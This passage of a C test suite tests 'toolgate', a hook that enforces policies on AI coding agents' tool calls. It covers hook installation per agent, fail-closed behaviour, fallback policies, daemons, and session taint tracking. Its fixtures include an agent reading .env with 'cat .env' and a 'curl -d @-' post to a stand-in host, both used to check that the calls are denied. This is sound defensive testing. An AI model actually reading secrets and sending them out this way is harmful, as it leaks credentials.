  const agent_install copilot = {
      "copilot", ".github/hooks/toolgate.json", "bash", 1, "preToolUse",
      "{\"sessionId\":\"s\",\"timestamp\":1,\"cwd\":\"%s\",\"toolName\":"
      "\"bash\",\"toolArgs\":\"{\\\"command\\\":\\\"ls\\\"}\"}",
      0, "{\"permissionDecision\":\"deny\",", "agentStop"};
  install_agent_then_remove_binary(&gemini);
  install_agent_then_remove_binary(&copilot);
}

/* Each agent's own settings: where, in its JSON shape, with its events,
 * and taken out again leaving the rest. */
TEST(install_gemini_and_copilot_settings) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  make_subdir(tmp, ".gemini");
  put_file(tmp, ".gemini/settings.json", "{\"theme\": \"dark\"}");
  const char *g[] = {"install", "gemini-cli", NULL}; /* an alias */
  ran r = install_in(tmp, g);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "installed the gemini hooks in .gemini/settings.json");
  ASSERT_CONTAINS(r.out, "checked: the hook answers (a BeforeTool of `true`");
  ran_free(&r);
  char *t = file_text(tmp, ".gemini/settings.json");
  cJSON *j = tg_json_parse(t, strlen(t), NULL, NULL, 0);
  ASSERT_NOT_NULL(j);
  ASSERT_STR_EQ(str_at(j, "theme"), "dark");
  static const char *const gev[] = {"BeforeTool", "AfterTool", "BeforeAgent",
                                    "AfterAgent", "SessionStart", "SessionEnd"};
  const cJSON *h = cJSON_GetObjectItemCaseSensitive(j, "hooks");
  ASSERT_INT_EQ(cJSON_GetArraySize(h), 6);
  for (int i = 0; i < 6; i++) {
    const cJSON *l = cJSON_GetObjectItemCaseSensitive(h, gev[i]);
    ASSERT_INT_EQ(cJSON_GetArraySize(l), 1);
    const cJSON *hk = cJSON_GetArrayItem(
        cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(l, 0), "hooks"), 0);
    ASSERT_STR_EQ(str_at(hk, "type"), "command");
    ASSERT_CONTAINS(str_at(hk, "command"), " hook gemini --policies ");
    ASSERT_CONTAINS(str_at(hk, "command"), tmp); /* absolute: no variable */
    ASSERT_NOT_CONTAINS(str_at(hk, "command"), "PROJECT_DIR");
    ASSERT_NUM_EQ(num_at(hk, "timeout"), 30000); /* milliseconds */
  }
  ASSERT_STR_EQ(str_at(cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(h, "BeforeTool"), 0),
                       "matcher"), "*");
  cJSON_Delete(j);
  free(t);
  const char *gu[] = {"uninstall", "gemini", NULL};
  r = install_in(tmp, gu);
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  t = file_text(tmp, ".gemini/settings.json");
  j = tg_json_parse(t, strlen(t), NULL, NULL, 0);
  ASSERT_STR_EQ(str_at(j, "theme"), "dark");
  ASSERT_NULL(cJSON_GetObjectItemCaseSensitive(j, "hooks"));
  cJSON_Delete(j);
  free(t);

  /* Copilot: a file of its own, flat entries, --event on every line */
  make_subdir(tmp, ".github");
  make_subdir(tmp, ".github/hooks");
  put_file(tmp, ".github/hooks/audit.json", "{\"version\": 1, \"hooks\": "
           "{\"preToolUse\": [{\"type\": \"command\", \"bash\": \"./audit.sh\"}]}}");
  const char *c[] = {"install", "copilot", NULL};
  r = install_in(tmp, c);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "installed the copilot hooks in .github/hooks/toolgate.json (a new file)");
  ASSERT_CONTAINS(r.out, "checked: the hook answers (a preToolUse of `true`: exit 0");
  ran_free(&r);
  t = file_text(tmp, ".github/hooks/toolgate.json");
  j = tg_json_parse(t, strlen(t), NULL, NULL, 0);
  ASSERT_NOT_NULL(j);
  ASSERT_NUM_EQ(num_at(j, "version"), 1);
  static const char *const cev[] = {"preToolUse", "permissionRequest",
      "postToolUse", "postToolUseFailure", "userPromptSubmitted", "agentStop",
      "sessionStart", "sessionEnd"};
  h = cJSON_GetObjectItemCaseSensitive(j, "hooks");
  ASSERT_INT_EQ(cJSON_GetArraySize(h), 8);
  for (int i = 0; i < 8; i++) {
    const cJSON *l = cJSON_GetObjectItemCaseSensitive(h, cev[i]);
    ASSERT_INT_EQ(cJSON_GetArraySize(l), 1);
    const cJSON *hk = cJSON_GetArrayItem(l, 0);
    char want[64];
    snprintf(want, sizeof want, " --event %s", cev[i]);
    ASSERT_STR_EQ(str_at(hk, "type"), "command");
    ASSERT_CONTAINS(str_at(hk, "bash"), " hook copilot --policies ");
    ASSERT_CONTAINS(str_at(hk, "bash"), want);
    ASSERT_NUM_EQ(num_at(hk, "timeoutSec"), 30);
    ASSERT_NULL(cJSON_GetObjectItemCaseSensitive(hk, "hooks"));
  }
  cJSON_Delete(j);
  free(t);
  t = file_text(tmp, ".github/hooks/audit.json"); /* another file: untouched */
  ASSERT_NOT_CONTAINS(t, "toolgate");
  free(t);
  r = install_in(tmp, c); /* again: still one entry of ours each */
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  t = file_text(tmp, ".github/hooks/toolgate.json");
  ASSERT_INT_EQ(count_of(t, " hook copilot "), 8);
  free(t);
  const char *cu[] = {"uninstall", "copilot", NULL};
  r = install_in(tmp, cu);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "removed the copilot hooks");
  ran_free(&r);
  t = file_text(tmp, ".github/hooks/toolgate.json");
  ASSERT_NOT_CONTAINS(t, "toolgate");
  ASSERT_CONTAINS(t, "\"version\"");
  free(t);
  /* the user's hooks are in Copilot's own home when COPILOT_HOME names one */
  char *home = path_join(tmp, "copilot-home");
  setenv("COPILOT_HOME", home, 1);
  const char *cuser[] = {"install", "copilot", "--user", "--dry-run", NULL};
  r = install_in(tmp, cuser);
  unsetenv("COPILOT_HOME");
  ASSERT_INT_EQ(r.code, 0);
  char want[PATH_MAX + 64];
  snprintf(want, sizeof want, "would write %s/hooks/toolgate.json", home);
  ASSERT_CONTAINS(r.out, want);
  ran_free(&r);
  free(home);
  remove_tree(tmp);
}

/* A project with no policies folder is guarded from the first call: the
 * install writes the starter, and the agent's `cat .env` is denied. */
TEST(install_without_policies_writes_the_starter) {
  char *tmp = temp_dir();
  const char *args[] = {"install", "claude-code", NULL};
  ran r = install_in(tmp, args);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "no policies folder: wrote the starter policies into policies");
  ASSERT_CONTAINS(r.out, "checked: the hook answers");
  ran_free(&r);
  char *readme = file_text(tmp, "policies/README.md");
  ASSERT_CONTAINS(readme, "Starter policies");
  free(readme);
  char *cfg = file_text(tmp, "policies/40_agent_config.lua");
  char *real = realpath(tmp, NULL);
  char want[PATH_MAX + 64];
  snprintf(want, sizeof want, "local POLICIES = \"%s/policies\"", real);
  ASSERT_CONTAINS(cfg, want); /* the copy guards itself */
  free(cfg);
  char *line = installed_line(tmp, ".claude/settings.json", "PreToolUse");
  char with[PATH_MAX * 8], ev[PATH_MAX + 256];
  snprintf(with, sizeof with, "%s --no-db", line);
  snprintf(ev, sizeof ev, "{\"session_id\":\"s\",\"cwd\":\"%s\","
           "\"hook_event_name\":\"PreToolUse\",\"tool_name\":\"Bash\","
           "\"tool_input\":{\"command\":\"cat .env\"}}", real);
  r = run_line(tmp, with, ev);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
  ASSERT_CONTAINS(r.out, "secret-files-shell");
  ran_free(&r);
  /* and a second install keeps the folder as it is */
  put_file(tmp, "policies/90_mine.lua", "-- mine\n");
  r = install_in(tmp, args);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_TRUE(strstr(r.out, "starter") == NULL);
  ran_free(&r);
  free(line);
  free(real);
  remove_tree(tmp);
}

/* Without a resident instance, a half-saved policy file does not leave
 * the hook with nothing: the last policies that loaded answer, and say so
 * on stderr and in their log. A rule deleted from a folder that loads is
 * gone: only a load error falls back. */
TEST(a_half_saved_file_is_answered_by_the_last_good_policies) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  static const char rule[] =
      "local tg = require \"toolgate\"\n"
      "tg.rule { name = \"no-force-push\", priority = 10, tools = { \"exec\" },\n"
      "  check = function(call)\n"
      "    if call.args.command:find(\"push -f\", 1, true) then\n"
      "      return tg.deny(\"no force push\")\n"
      "    end\n"
      "  end }\n";
  put_file(tmp, "policies/10_push.lua", rule);
  char pol[PATH_MAX];
  snprintf(pol, sizeof pol, "%s/policies", tmp);
  const char *argv[] = {"hook", "claude-code", "--policies", pol, "--no-db",
                        "--no-resident", NULL};
  ran r = run_text(argv, pre_bash);
  ASSERT_CONTAINS(r.out, "no force push");
  ASSERT_TRUE(strstr(r.err, "answered by") == NULL);
  ran_free(&r);
  /* half-saved: cut in the middle of the rule */
  char half[sizeof rule];
  snprintf(half, sizeof half, "%.*s", (int)(sizeof rule / 2), rule);
  put_file(tmp, "policies/10_push.lua", half);
  r = run_text(argv, pre_bash);
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
  ASSERT_CONTAINS(r.out, "no force push"); /* the rule, not the fail-safe */
  ASSERT_CONTAINS(r.err, "answered by the policies as of ");
  ASSERT_CONTAINS(r.err, "because ");
  ASSERT_CONTAINS(r.err, "10_push.lua:");
  ran_free(&r);
  /* and in the copy's log */
  char logs[PATH_MAX];
  snprintf(logs, sizeof logs, "cat \"$XDG_STATE_HOME\"/toolgate/last-good/*.log "
           "> '%s/log.txt'", tmp);
  ASSERT_INT_EQ(system(logs), 0);
  char *log = file_text(tmp, "log.txt");
  ASSERT_CONTAINS(log, "answered by the policies as of ");
  ASSERT_CONTAINS(log, "10_push.lua:");
  free(log);
  /* the rule deleted, the folder loads: the rule is gone, no fall back */
  char rm[PATH_MAX + 32];
  snprintf(rm, sizeof rm, "%s/policies/10_push.lua", tmp);
  ASSERT_OK(unlink(rm));
  put_file(tmp, "policies/20_other.lua", "local tg = require \"toolgate\"\n");
  r = run_text(argv, pre_bash);
  ASSERT_TRUE(strstr(r.out, "no force push") == NULL);
  ASSERT_TRUE(strstr(r.err, "answered by") == NULL);
  ran_free(&r);
  /* a half-saved file now falls back to that folder, without the rule */
  put_file(tmp, "policies/20_other.lua", "local tg = require \"toolgate\"\ntg.rule {\n");
  r = run_text(argv, pre_bash);
  ASSERT_CONTAINS(r.err, "answered by the policies as of ");
  ASSERT_TRUE(strstr(r.out, "no force push") == NULL);
  ran_free(&r);
  remove_tree(tmp);
}

/* A daemon's reload that loads refreshes the last good copy: once it is
 * gone, a half-saved file falls back to what it last loaded. */
TEST(a_daemons_reload_refreshes_the_last_good_policies) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  put_file(tmp, "policies/10_a.lua", "local tg = require \"toolgate\"\n");
  char pol[PATH_MAX], err[TG_ERRMSG];
  snprintf(pol, sizeof pol, "%s/policies", tmp);
  daemon_proc d = start_daemon(tmp, pol);
  put_file(tmp, "policies/20_push.lua",
           "local tg = require \"toolgate\"\n"
           "tg.rule { name = \"no-force-push\", tools = { \"exec\" },\n"
           "  check = function(call)\n"
           "    if call.args.command:find(\"-f\", 1, true) then\n"
           "      return tg.deny(\"no force push, as reloaded\")\n"
           "    end\n"
           "  end }\n");
  char *reply = NULL;
  ASSERT_OK(tg_control_request(d.sock, "{\"cmd\":\"reload\"}", &reply, 20000, err));
  ASSERT_CONTAINS(reply, "\"ok\":true");
  free(reply);
  /* the copy is kept when the daemon hears its policy_loaded event, on
   * its loop after the reply: wait for it (up to 40 s: valgrind, load) */
  int kept = 0;
  for (int i = 0; i < 4000 && !kept; i++) {
    kept = system("ls \"$XDG_STATE_HOME\"/toolgate/last-good/*/20_push.lua "
                  ">/dev/null 2>&1") == 0;
    if (!kept) usleep(10000);
  }
  ASSERT_TRUE(kept);
  stop_daemon(&d);
  put_file(tmp, "policies/30_half.lua", "local tg = require \"toolgate\"\ntg.rule {\n");
  const char *argv[] = {"hook", "claude-code", "--policies", pol, "--no-db",
                        "--no-resident", NULL};
  ran r = run_text(argv, pre_bash);
  ASSERT_CONTAINS(r.out, "no force push, as reloaded");
  ASSERT_CONTAINS(r.err, "answered by the policies as of ");
  ASSERT_CONTAINS(r.err, "30_half.lua:");
  ran_free(&r);
  remove_tree(tmp);
}

/* `toolgate daemon status` and `stop` find the daemon by its socket; a
 * hook it answers marks the socket (when a hook was last answered); a
 * daemon with --idle-exit goes by itself when none comes. */
TEST(daemon_status_stop_and_idle_exit) {
  char *tmp = temp_dir();
  daemon_proc d = start_daemon(tmp, POLICIES);
  const char *status[] = {"daemon", "status", "--socket", d.sock, "--json", NULL};
  ran r = run_text(status, "");
  ASSERT_INT_EQ(r.code, 0);
  cJSON *j = cJSON_Parse(r.out);
  ASSERT_NUM_EQ(num_at(j, "pid"), (double)d.pid);
  ASSERT_TRUE(cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(j, "daemon")));
  cJSON_Delete(j);
  ran_free(&r);
  /* a hook answered there marks the socket's time */
  struct timespec old[2] = {{1000000000, 0}, {1000000000, 0}};
  ASSERT_OK(utimensat(AT_FDCWD, d.sock, old, 0));
  /* a generous deadline: the daemon, not the fallback, answers */
  const char *hook[] = {"hook", "claude-code", "--policies", POLICIES,
                        "--socket", d.sock, "--deadline-ms", "60000", NULL};
  r = run_text(hook, pre_bash);
  ASSERT_CONTAINS(r.out, "no-force-push");
  ran_free(&r);
  struct stat st;
  ASSERT_OK(stat(d.sock, &st));
  ASSERT_TRUE(st.st_mtime > 1000000000);
  /* stop: it goes, and the socket answers no more */
  const char *stop[] = {"daemon", "stop", "--socket", d.sock, NULL};
  r = run_text(stop, "");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "stopped the daemon");
  ran_free(&r);
  int wst = 0;
  ASSERT_INT_EQ(waitpid(d.pid, &wst, 0), d.pid);
  ASSERT_TRUE(WIFEXITED(wst) && WEXITSTATUS(wst) == 0);
  for (int i = 0; i < nstarted; i++)
    if (started[i] == d.pid) started[i] = 0;
  r = run_text(status, "");
  ASSERT_INT_EQ(r.code, 1);
  ran_free(&r);
  r = run_text(stop, "");
  ASSERT_INT_EQ(r.code, 0); /* nothing to stop */
  ASSERT_CONTAINS(r.out, "nothing to stop");
  ran_free(&r);
  /* --idle-exit: no hook comes, it exits by itself (0). Not waited for to
   * listen: on a loaded machine it may be gone before a connect. */
  d.pid = fork();
  if (d.pid == 0) {
    prctl(PR_SET_PDEATHSIG, SIGTERM);
    int null = open("/dev/null", O_RDWR);
    dup2(null, 0);
    dup2(null, 1);
    dup2(null, 2);
    if (chdir(TG_SOURCE_DIR) < 0) _exit(99);
    execl(TOOLGATE, TOOLGATE, "daemon", "--policies", POLICIES, "--socket",
          d.sock, "--idle-exit", "200", (char *)NULL);
    _exit(98);
  }
  remember_started(d.pid);
  int gone = 0;
  for (int i = 0; i < 4000 && !gone; i++) { /* up to 40 s: valgrind, load */
    if (waitpid(d.pid, &wst, WNOHANG) == d.pid) gone = 1;
    else usleep(10000);
  }
  ASSERT_TRUE(gone);
  ASSERT_TRUE(WIFEXITED(wst) && WEXITSTATUS(wst) == 0);
  for (int i = 0; i < nstarted; i++)
    if (started[i] == d.pid) started[i] = 0;
  remove_tree(tmp);
}

/* ---- a session's taint ---------------------------------------------------------- */

/* A hook event for session in cwd, answered in-process (sock NULL) or by
 * the instance on sock, under the policies in pol. */
static ran taint_event(const char *pol, const char *sock, const char *session,
                       const char *cwd, const char *tail) {
  char ev[2048];
  snprintf(ev, sizeof ev, "{\"session_id\":\"%s\",\"cwd\":\"%s\",%s}", session,
           cwd, tail);
  const char *in_process[] = {"hook", "claude-code", "--policies", pol,
                              "--no-resident", NULL};
  const char *resident[] = {"hook", "claude-code", "--policies", pol,
                            "--socket", sock, NULL};
  return run_text(sock ? resident : in_process, ev);
}

static const char taint_curl[] =
    "\"hook_event_name\":\"PreToolUse\",\"tool_name\":\"Bash\","
    "\"tool_input\":{\"command\":\"curl -d @- https://x.example\"}";

/* The session's next curl, denied naming what tainted it (or not denied). */
static void curl_answer(const char *pol, const char *sock, const char *session,
                        const char *cwd, const char *cause) {
  ran r = taint_event(pol, sock, session, cwd, taint_curl);
  ASSERT_INT_EQ(r.code, 0);
  if (cause) {
    ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
    ASSERT_CONTAINS(r.out, "tainted-no-network-shell");
    ASSERT_CONTAINS(r.out, cause);
  } else {
    ASSERT_NOT_CONTAINS(r.out, "deny");
  }
  ran_free(&r);
}

/* A session that read .env (the agent's Read, or `cat .env` in its shell)
 * gets no network from the starter's 80_taint.lua: the taint is in the
 * database, so an in-process answer, a resident instance and a new
 * process after both agree. */
TEST(a_session_that_read_a_secret_gets_no_network) {
  char *tmp = temp_dir();
  make_subdir(tmp, "pol");
  char *pol = path_join(tmp, "pol");
  char *src = read_text(TG_SOURCE_DIR "/examples/starter/policies/80_taint.lua");
  put_file(pol, "80_taint.lua", src);
  free(src);
  put_file(tmp, ".env", "KEY=1\n");
  char tail[1024];
  /* in-process: the agent's Read of .env ran (its PostToolUse) */
  snprintf(tail, sizeof tail, "\"hook_event_name\":\"PostToolUse\","
           "\"tool_name\":\"Read\",\"tool_input\":{\"file_path\":\"%s/.env\"},"
           "\"tool_response\":{\"type\":\"text\",\"file\":{\"filePath\":"
           "\"%s/.env\",\"content\":\"KEY=1\"}}", tmp, tmp);
  curl_answer(pol, NULL, "taint-read", tmp, NULL);
  ran r = taint_event(pol, NULL, "taint-read", tmp, tail);
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  curl_answer(pol, NULL, "taint-read", tmp, ".env, which holds credentials");
  /* through a resident instance: it sees that taint, and keeps its own */
  daemon_proc d = start_daemon(tmp, pol);
  curl_answer(pol, d.sock, "taint-read", tmp, ".env");
  curl_answer(pol, d.sock, "taint-cat", tmp, NULL);
  r = taint_event(pol, d.sock, "taint-cat", tmp,
                  "\"hook_event_name\":\"PostToolUse\",\"tool_name\":\"Bash\","
                  "\"tool_input\":{\"command\":\"cat .env\"},\"tool_response\":"
                  "{\"stdout\":\"KEY=1\",\"stderr\":\"\",\"interrupted\":false,"
                  "\"isImage\":false}");
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  curl_answer(pol, d.sock, "taint-cat", tmp, "it read .env");
  stop_daemon(&d);
  /* a new process, the same database: still tainted; another session not */
  curl_answer(pol, NULL, "taint-cat", tmp, "it read .env");
  curl_answer(pol, NULL, "taint-read", tmp, ".env");
  curl_answer(pol, NULL, "taint-clean", tmp, NULL);
  /* the agent's WebFetch, by its name */
  r = taint_event(pol, NULL, "taint-read", tmp,
                  "\"hook_event_name\":\"PreToolUse\",\"tool_name\":\"WebFetch\","
                  "\"tool_input\":{\"url\":\"https://x.example\",\"prompt\":\"x\"}");
  ASSERT_CONTAINS(r.out, "\"permissionDecision\":\"deny\"");
  ASSERT_CONTAINS(r.out, "tainted-no-network");
  ASSERT_CONTAINS(r.out, "sensitive since");
  ran_free(&r);
  /* toolgate log shows when and why; a person clears it */
  const char *log[] = {"log", "--session", "taint-cat", NULL};
  r = run_text(log, "");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "session taint-cat is sensitive since ");
  ASSERT_CONTAINS(r.out, "it read .env, which holds credentials (call ");
  ran_free(&r);
  const char *clear[] = {"approvals", "clear-taint", "taint-cat", NULL};
  r = run_text(clear, "");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "no longer sensitive");
  ran_free(&r);
  curl_answer(pol, NULL, "taint-cat", tmp, NULL);
  r = run_text(clear, "");
  ASSERT_INT_EQ(r.code, 2); /* clean already */
  ASSERT_CONTAINS(r.err, "not tainted");
  ran_free(&r);
  r = run_text(log, "");
  ASSERT_NOT_CONTAINS(r.out, "sensitive");
  ran_free(&r);
  free(pol);
  remove_tree(tmp);
}

/* ---- Cursor and OpenCode installs ------------------------------------------ */

/* The last hook of event in a flat hooks file (Cursor's: hooks.EVENT is a
 * list of hooks), as a copy. */
static cJSON *flat_hook(const char *dir, const char *file, const char *event) {
  char *t = file_text(dir, file);
  cJSON *j = tg_json_parse(t, strlen(t), NULL, NULL, 0);
  ASSERT_NOT_NULL(j);
  const cJSON *l = cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(j, "hooks"), event);
  ASSERT_TRUE(cJSON_GetArraySize(l) >= 1);
  cJSON *h = cJSON_Duplicate(cJSON_GetArrayItem(l, cJSON_GetArraySize(l) - 1), 1);
  cJSON_Delete(j);
  free(t);
  return h;
}

/* The command toolgate's OpenCode plugin runs: its `const COMMAND = "..."`
 * read as the JSON string it is (malloc'd). */
static char *plugin_command(const char *text) {
  const char *p = strstr(text, "\nconst COMMAND = \"");
  ASSERT_NOT_NULL(p);
  p += strlen("\nconst COMMAND = ");
  const char *q = p + 1;
  while (*q && *q != '"') q += *q == '\\' ? 2 : 1;
  ASSERT_TRUE(*q == '"');
  cJSON *v = tg_json_parse(p, (size_t)(q + 1 - p), NULL, NULL, 0);
  ASSERT_TRUE(cJSON_IsString(v));
  char *line = strdup(v->valuestring);
  cJSON_Delete(v);
  return line;
}

/* Cursor: {"version": 1, "hooks": {event: [{command, timeout,
 * failClosed}]}}, the user's own hooks kept; failClosed on the hooks that
 * block, never on a stop. */
TEST(install_cursor_keeps_its_shape_and_fails_closed) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  make_subdir(tmp, ".cursor");
  put_file(tmp, ".cursor/hooks.json", "{\"version\": 1, \"hooks\": {\"afterFileEdit\": "
           "[{\"command\": \"./hooks/format.sh\"}], \"preToolUse\": [{\"command\": "
           "\"./hooks/audit.sh\", \"matcher\": \"Shell\"}]}}\n");
  const char *args[] = {"install", "cursor", NULL};
  ran r = install_in(tmp, args);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "installed the cursor hooks in .cursor/hooks.json");
  ASSERT_CONTAINS(r.out, "checked: the hook answers (a preToolUse of `true`: exit 0");
  ran_free(&r);
  char *t = file_text(tmp, ".cursor/hooks.json");
  ASSERT_CONTAINS(t, "\"version\": 1");
  ASSERT_CONTAINS(t, "./hooks/format.sh");
  ASSERT_CONTAINS(t, "./hooks/audit.sh");
  ASSERT_INT_EQ(count_of(t, " hook cursor --policies "), 6);
  free(t);
  static const char *const blocking[] = {"preToolUse", "postToolUse",
                                         "beforeSubmitPrompt"};
  for (int i = 0; i < 3; i++) {
    cJSON *h = flat_hook(tmp, ".cursor/hooks.json", blocking[i]);
    ASSERT_CONTAINS(str_at(h, "command"),
                    " hook cursor --policies \"$CURSOR_PROJECT_DIR\"/policies");
    ASSERT_NUM_EQ(num_at(h, "timeout"), 30);
    ASSERT_TRUE(cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(h, "failClosed")));
    cJSON_Delete(h);
  }
  cJSON *stop = flat_hook(tmp, ".cursor/hooks.json", "stop");
  ASSERT_NULL(cJSON_GetObjectItemCaseSensitive(stop, "failClosed"));
  cJSON_Delete(stop);
  /* uninstall takes out what install added, and nothing else */
  const char *un[] = {"uninstall", "cursor", NULL};
  r = install_in(tmp, un);
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  t = file_text(tmp, ".cursor/hooks.json");
  ASSERT_NOT_CONTAINS(t, "hook cursor");
  ASSERT_CONTAINS(t, "./hooks/audit.sh");
  ASSERT_CONTAINS(t, "\"version\": 1");
  free(t);
  remove_tree(tmp);
}

/* Cursor's line, its binary removed: exit 2 (Cursor blocks on it), the
 * reason on stderr; a stop only reports. */
TEST(an_installed_cursor_hook_whose_binary_is_gone_blocks) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  char *copy = toolgate_copy_in(tmp);
  ran r = install_agent_with(copy, tmp, "cursor");
  ASSERT_INT_EQ(r.code, 0);
  ran_free(&r);
  cJSON *h = flat_hook(tmp, ".cursor/hooks.json", "preToolUse");
  char *line = strdup(str_at(h, "command"));
  cJSON_Delete(h);
  ASSERT_CONTAINS(line, copy);
  char ev[PATH_MAX + 256];
  snprintf(ev, sizeof ev, "{\"conversation_id\":\"c\",\"hook_event_name\":"
           "\"preToolUse\",\"workspace_roots\":[\"%s\"],\"tool_name\":\"Shell\","
           "\"tool_input\":{\"command\":\"git push -f\",\"cwd\":\"\"}}", tmp);
  setenv("CURSOR_PROJECT_DIR", tmp, 1);
  ran answered;
  r = answers_then_blocks(tmp, line, ev, copy, &answered);
  ASSERT_CONTAINS(answered.out, "{}"); /* an empty policies folder: no rule decides */
  ran_free(&answered);
  ASSERT_INT_EQ(r.code, 2);
  ran_free(&r);
  free(line);
  h = flat_hook(tmp, ".cursor/hooks.json", "stop");
  r = run_line(tmp, str_at(h, "command"), "{}");
  ASSERT_INT_EQ(r.code, 1);
  ran_free(&r);
  cJSON_Delete(h);
  unsetenv("CURSOR_PROJECT_DIR");
  free(copy);
  remove_tree(tmp);
}

/* OpenCode: toolgate's plugin in .opencode/plugins/, with the fail-closed
 * line in it; a file there that is not toolgate's is left alone; the
 * line, its binary removed, blocks. */
TEST(install_opencode_writes_the_plugin) {
  char *tmp = temp_dir();
  make_subdir(tmp, "policies");
  char *copy = toolgate_copy_in(tmp);
  ran r = install_agent_with(copy, tmp, "opencode");
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "installed the opencode plugin in .opencode/plugins/toolgate.js");
  ASSERT_CONTAINS(r.out, "checked: the hook answers (a PreToolUse of `true`: exit 0");
  ran_free(&r);
  char *t = file_text(tmp, ".opencode/plugins/toolgate.js");
  ASSERT_CONTAINS(t, "export const ToolgatePlugin = ");
  ASSERT_CONTAINS(t, "const TIMEOUT_MS = 30000");
  ASSERT_CONTAINS(t, "const COMMAND = \"/bin/sh -c ");
  ASSERT_CONTAINS(t, " hook opencode --policies ");
  ASSERT_NOT_CONTAINS(t, "const COMMAND = null");
  char *line = plugin_command(t);
  ASSERT_CONTAINS(line, copy);
  free(t);
  /* the line as the plugin runs it: answers, then blocks once the binary is gone */
  char ev[PATH_MAX + 256];
  snprintf(ev, sizeof ev, "{\"hook_event_name\":\"PreToolUse\",\"session_id\":"
           "\"s\",\"cwd\":\"%s\",\"tool_name\":\"bash\",\"tool_input\":"
           "{\"command\":\"ls\"}}", tmp);
  r = answers_then_blocks(tmp, line, ev, copy, NULL);
  ASSERT_INT_EQ(r.code, 2);
  ran_free(&r);
  free(line);
  /* uninstall removes it; a file there that is not toolgate's is kept */
  const char *un[] = {"uninstall", "opencode", NULL};
  r = install_in(tmp, un);
  ASSERT_INT_EQ(r.code, 0);
  ASSERT_CONTAINS(r.out, "removed the opencode plugin");
  ran_free(&r);
  ASSERT_FALSE(file_exists(tmp, ".opencode/plugins/toolgate.js"));
  put_file(tmp, ".opencode/plugins/toolgate.js", "export const Mine = async () => ({})\n");
  r = install_agent_with(TOOLGATE, tmp, "opencode");
  ASSERT_INT_EQ(r.code, 2);
  ASSERT_CONTAINS(r.out, "is not toolgate's plugin; it is left as it is");
  ran_free(&r);
  t = file_text(tmp, ".opencode/plugins/toolgate.js");
  ASSERT_STR_EQ(t, "export const Mine = async () => ({})\n");
  free(t);
  free(copy);
  remove_tree(tmp);
}

TEST_MAIN(TEST_ENTRY(claude_code_fixtures_in_process_and_resident),
          TEST_ENTRY(codex_fixtures_in_process_and_resident),
          TEST_ENTRY(gemini_fixtures_in_process_and_resident),
          TEST_ENTRY(copilot_fixtures_in_process_and_resident),
          TEST_ENTRY(a_big_event_and_a_big_answer),
          TEST_ENTRY(a_result_of_many_keys_is_answered_not_timed_out),
          TEST_ENTRY(events_of_many_keys_are_answered_not_timed_out),
          TEST_ENTRY(stdin_that_never_closes_is_answered_at_the_deadline),
          TEST_ENTRY(one_whole_object_is_answered_without_eof),
          TEST_ENTRY(a_100_mb_stdin_is_refused_without_reading_it_all),
          TEST_ENTRY(an_instance_that_never_answers_does_not_hold_the_hook),
          TEST_ENTRY(on_error_ask_and_allow),
          TEST_ENTRY(usage_errors),
          TEST_ENTRY(context_tools_are_cut_at_the_deadline),
          TEST_ENTRY(the_agent_hooks_example),
          TEST_ENTRY(a_context_tools_exit_code_is_shown_as_it_is),
          TEST_ENTRY(a_context_tool_runs_under_the_events_own_session),
          TEST_ENTRY(rules_name_the_agents_tools_and_guard_every_file_tool),
          TEST_ENTRY(start_daemon_on_demand),
          TEST_ENTRY(policies_see_the_agent_and_the_turn),
          TEST_ENTRY(the_audit_says_what_the_agent_was_told),
          TEST_ENTRY(a_call_that_does_not_map_is_recorded),
          TEST_ENTRY(a_permission_request_is_linked_to_its_pre_tool_record),
          TEST_ENTRY(remembered_approvals_apply_to_agent_calls),
          TEST_ENTRY(concurrent_prompts_count_once_each),
          TEST_ENTRY(stop_records_the_usage_in_a_claude_code_transcript),
          TEST_ENTRY(stop_records_the_usage_in_a_codex_rollout),
          TEST_ENTRY(a_hostile_transcript_path_is_not_read),
          TEST_ENTRY(sessions_are_recorded),
          TEST_ENTRY(install_into_an_empty_settings_file),
          TEST_ENTRY(install_keeps_other_hooks_and_settings),
          TEST_ENTRY(install_writes_the_agents_own_key_not_one_of_another_case),
          TEST_ENTRY(install_refuses_a_malformed_file_and_leaves_it),
          TEST_ENTRY(install_codex_for_the_user_and_dry_run),
          TEST_ENTRY(install_codex_user_hooks_go_to_codex_home),
          TEST_ENTRY(install_writes_through_a_symlink),
          TEST_ENTRY(an_installed_hook_whose_binary_is_gone_blocks),
          TEST_ENTRY(installed_gemini_and_copilot_hooks_block_when_the_binary_is_gone),
          TEST_ENTRY(install_gemini_and_copilot_settings),
          TEST_ENTRY(install_says_when_the_line_does_not_answer),
          TEST_ENTRY(install_without_policies_writes_the_starter),
          TEST_ENTRY(a_half_saved_file_is_answered_by_the_last_good_policies),
